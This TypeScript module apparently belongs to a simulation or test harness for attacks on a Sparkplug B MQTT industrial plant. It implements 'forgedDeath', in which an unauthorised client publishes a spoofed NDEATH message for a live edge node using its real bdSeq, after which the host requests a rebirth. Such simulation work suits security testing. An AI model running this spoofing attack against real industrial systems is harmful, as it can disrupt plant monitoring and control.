import { nodeDeath } from '../sparkplug-messages';
import { type Attack, asStranger, pause } from './attack-scene';

const untilRebirthMs = 30_000;

/** Declares a living edge node dead; later the host application, seeing data from a dead node, asks it for a rebirth. */
export const forgedDeath: Attack = async (scene) => {
  const { edgeNodes, host } = scene.plant;
  const victim = edgeNodes[0];
  if (victim === undefined) throw new Error('the plant has no edge node');
  const { node } = victim;
  const outcome = await asStranger(scene, 'sparkplug-tool', async (client, clientId) => {
    const bdSeq = victim.bdSeq();
    const topic = `spBv1.0/${node.group}/NDEATH/${node.edgeNode}`;
    await client.publishAsync(topic, Buffer.from(nodeDeath(bdSeq, Date.now())), { qos: 1 });
    return `MQTT client ${clientId} published the death certificate of ${node.group}/${node.edgeNode} with its true bdSeq ${bdSeq} while the node was alive.`;
  });
  try {
    await pause(scene, untilRebirthMs);
  } finally {
    host.requestRebirth(node);
  }
  return `${outcome} After 30 seconds the host application asked the node for a rebirth.`;
};
